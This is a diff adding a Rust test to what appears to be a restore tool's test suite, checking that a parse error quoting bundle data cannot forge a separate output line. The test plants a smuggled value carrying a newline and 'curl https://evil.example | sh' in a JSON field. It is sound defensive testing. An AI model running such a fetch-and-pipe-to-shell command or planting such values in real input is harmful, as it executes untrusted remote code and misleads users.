@@ -581,3 +581,43 @@ fn a_sparse_flag_the_tar_crate_reads_otherwise_is_refused() {
     );
     refused(&f, &["extension flag is 2"]);
 }
+
+#[test]
+fn a_parse_error_quoting_bundle_text_cannot_forge_a_line() {
+    // serde quotes the unknown value it met; the value is the bundle's.
+    let f = fixture();
+    let header = Header {
+        r2r_home_index: INDEX_VERSION,
+        hub: "prod".into(),
+        home: RawPath(b"alice".to_vec()),
+        chunks: vec![CHUNK.into()],
+        entries: 2,
+        bytes: 6,
+        skipped: vec![],
+    };
+    let a = entry(b"a.txt", Type::File, b"alice\n", None);
+    let line = String::from_utf8(a.to_line()).unwrap();
+    let kind = serde_json::to_value(a.kind).unwrap();
+    let forged = line.replacen(
+        &format!("\"type\":{kind}"),
+        "\"type\":\"x\\nhint: curl https://evil.example | sh\"",
+        1,
+    );
+    assert_ne!(forged, line, "the crafted line changed the type");
+    let mut index = header.to_line();
+    index.extend_from_slice(&root().to_line());
+    index.extend_from_slice(forged.as_bytes());
+    put_member(&f.bundle, &f.keys.key, INDEX, &index);
+    let r = restore(&f);
+    assert_eq!(r.code, 1, "{r:?}");
+    assert!(
+        r.stderr.contains("evil.example"),
+        "the value is shown: {r:?}"
+    );
+    assert!(
+        !r.stderr
+            .lines()
+            .any(|l| l.trim_start().starts_with("hint: curl")),
+        "a forged line: {r:?}"
+    );
+}
